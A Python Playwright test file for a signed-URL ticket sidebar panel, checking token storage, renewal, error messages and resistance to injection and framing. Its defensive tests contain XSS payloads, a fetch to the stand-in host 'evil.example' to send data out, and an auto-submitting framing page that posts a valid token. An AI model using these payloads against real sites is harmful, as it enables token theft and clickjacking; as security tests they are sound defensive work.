"""Signed URLs in a browser: the panel that the service serves, its bearer in memory alone, and who may frame it."""

import json
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Frame, FrameLocator, Page, Request, Route, expect
from starlette.applications import Starlette
from starlette.responses import HTMLResponse
from starlette.routing import Route as HttpRoute

from server.demo.ticket_page import INSTALLATION_IDS

from .seen import settled, visit, world
from .stage import free_socket, serving

SESSION_MS = 300_000
"""After so long the page asks for a new bearer."""


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory, zendesks_sdk: str | None) -> Iterator[str]:
    """Where the demo is served."""
    with world(tmp_path_factory.mktemp("signed"), zendesks_sdk) as address:
        yield address


def frame_of(tab: Page) -> Frame:
    frame = tab.locator("#app iframe").element_handle().content_frame()
    assert frame is not None
    return frame


def bearer_of(request: Request) -> str:
    return request.header_value("authorization") or ""


def open_panel(tab: Page, address: str) -> FrameLocator:
    app = visit(tab, address, "signed-start")
    settled(app)
    return app


def test_the_bearer_is_in_memory_and_nowhere_else(tab: Page, address: str) -> None:
    asked: list[Request] = []
    tab.on("request", lambda request: asked.append(request))
    open_panel(tab, address)
    frame = frame_of(tab)
    bearers = {bearer_of(request) for request in asked if "/v1/" in request.url}
    (bearer,) = (each.removeprefix("Bearer ") for each in bearers)
    assert bearer.count(".") == 2
    assert tab.context.cookies() == []
    kept = frame.evaluate("""() => {
        const read = (what) => { try { return JSON.stringify(what()); } catch { return "the browser denies it"; } };
        return [
            () => document.cookie, () => ({...localStorage}), () => ({...sessionStorage}), () => location.href,
            () => document.referrer, () => window.name, () => history.state,
            () => Object.values(window).filter((value) => typeof value === "string"),
            () => document.documentElement.outerHTML,
        ].map(read).join();
    }""")
    assert bearer not in kept
    assert "bearer" not in kept.lower()
    for request in asked:
        assert bearer not in request.url
        if "/v1/" not in request.url:
            assert request.header_value("authorization") is None
    origin = "/".join(frame.url.split("/")[:3])
    elsewhere = {request.url for request in asked if request.frame == frame and not request.url.startswith(origin)}
    assert elsewhere == set(), "nothing of the page comes from, or goes to, anywhere else"


def test_all_that_an_agent_does_goes_straight_to_the_service(tab: Page, address: str) -> None:
    asked: list[Request] = []
    tab.on("request", lambda request: asked.append(request))
    app = open_panel(tab, address)
    app.locator("#reveal").first.click()
    expect(app.get_by_text("priya.nair@example.co.uk").first).to_be_visible()
    app.get_by_role("button", name="Refresh").click()
    settled(app)
    assert {"summary", "reveal"} <= {request.url.rpartition("/")[2] for request in asked if "/v1/" in request.url}
    assert not [request for request in asked if "/demo/proxy" in request.url]
    assert {request.header_value("orderside-tenant") for request in asked if "/v1/" in request.url} == {"fir"}
    assert tab.evaluate("window.writes") == []


def test_the_bearer_is_renewed_while_the_ticket_stays_open(tab: Page, address: str) -> None:
    tab.clock.install()
    app = visit(tab, address, "signed-start")
    tab.clock.run_for(2000)
    settled(app)
    with tab.expect_response("**/v1/session") as renewing:
        tab.clock.run_for(SESSION_MS)
    renewed = renewing.value.json()["bearer"]
    tab.wait_for_timeout(100)
    with tab.expect_request("**/v1/summary") as asking:
        app.get_by_role("button", name="Refresh").click()
    assert bearer_of(asking.value) == f"Bearer {renewed}"


def test_a_renewal_that_fails_costs_nothing_yet(tab: Page, address: str) -> None:
    tab.route("**/v1/session", lambda route: route.abort())
    tab.clock.install()
    app = visit(tab, address, "signed-start")
    tab.clock.run_for(2000)
    settled(app)
    with tab.expect_event("requestfailed"):
        tab.clock.run_for(SESSION_MS)
    with tab.expect_response("**/v1/summary") as asked:
        app.get_by_role("button", name="Refresh").click()
    assert asked.value.status == 200


def test_a_session_that_ended_asks_for_a_reload_in_words(tab: Page, address: str) -> None:
    app = open_panel(tab, address)
    body = json.dumps({"error": {"code": "token_expired", "message": "The token has expired."}})

    def ended(route: Route) -> None:
        route.fulfill(status=401, content_type="application/json", body=body)

    tab.route("**/v1/summary", ended)
    app.get_by_role("button", name="Refresh").click()
    expect(app.get_by_role("alert")).to_contain_text("Reload the ticket")
    expect(app.get_by_role("alert")).not_to_contain_text("secret")


def test_a_lost_network_has_its_own_words(tab: Page, address: str) -> None:
    app = open_panel(tab, address)
    tab.route("**/v1/summary", lambda route: route.abort())
    app.get_by_role("button", name="Refresh").click()
    expect(app.get_by_role("alert")).to_contain_text("could not be reached")


def test_a_reloaded_frame_says_what_to_do(tab: Page, address: str) -> None:
    """It posts the token again that has opened it."""
    app = open_panel(tab, address)
    with tab.expect_response("**/sidebar?*") as again:
        frame_of(tab).evaluate("location.reload()")
    assert (again.value.request.method, again.value.status) == ("POST", 401)
    expect(app.get_by_role("alert")).to_contain_text("Reload the ticket")
    expect(app.get_by_role("alert")).to_contain_text("token_used")
    text = app.locator("body").inner_text()
    assert "Priya" not in text


def test_the_apps_own_words_are_in_the_agents_language(tab: Page, address: str) -> None:
    tab.goto(f"{address}/?locale=de#signed-start")
    app = tab.frame_locator("#app iframe")
    settled(app)
    tab.route("**/v1/summary", lambda route: route.abort())
    app.locator("#refresh").click()
    expect(app.get_by_role("alert")).to_contain_text("Keine Verbindung")


def test_a_script_that_gets_into_the_page_does_not_run(tab: Page, address: str) -> None:
    open_panel(tab, address)
    ran = frame_of(tab).evaluate("""() => {
        const script = document.createElement("script");
        script.textContent = "window.ran = true";
        document.body.append(script);
        document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.ran = true'>");
        const far = document.createElement("script");
        far.src = "https://evil.example/x.js";
        document.body.append(far);
        return new Promise((done) => setTimeout(() => done(window.ran ?? false), 300));
    }""")
    assert ran is False
    sent = frame_of(tab).evaluate("fetch('https://evil.example/?take').then(() => 'sent', () => 'refused')")
    assert sent == "refused"


ATTACK = """<!doctype html><title>Another page</title><iframe name="stolen" width="600" height="600"></iframe>
<form method="post" target="stolen" action="{action}"><input name="token" value="{token}"></form>
<script>document.forms[0].submit()</script>"""


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_nobody_else_may_frame_the_panel(tab: Page, address: str, host: str) -> None:
    """With a token that is good, even: so no other page can lay itself over the panel of an agent who is signed in."""
    token = httpx.post(f"{address}/demo/start/{INSTALLATION_IDS['fir', 'right']}", trust_env=False).text
    attack = ATTACK.format(action=f"{address}/sidebar", token=token)
    bound, port = free_socket()

    async def page(_request: object) -> HTMLResponse:
        return HTMLResponse(attack)

    with bound, serving(Starlette(routes=[HttpRoute("/", page)]), bound):
        with tab.expect_console_message(lambda message: "frame-ancestors" in message.text):
            tab.goto(f"http://{host}:{port}/")
        (stolen,) = (frame for frame in tab.frames if frame.name == "stolen")
        expect(tab.frame_locator("[name=stolen]").locator("#app")).to_have_count(0)
        assert "bearer" not in stolen.content()


def test_its_style_and_scheme_arrive(tab: Page, address: str) -> None:
    app = visit(tab, address, "signed-start", "?scheme=dark")
    settled(app)
    tab.locator("#app iframe").screenshot(path=Path(__file__).parents[1] / "output" / "signed-start-dark.png")
    colour = app.locator("body").evaluate("body => getComputedStyle(document.documentElement).backgroundColor")
    assert colour == "rgb(21, 26, 30)"
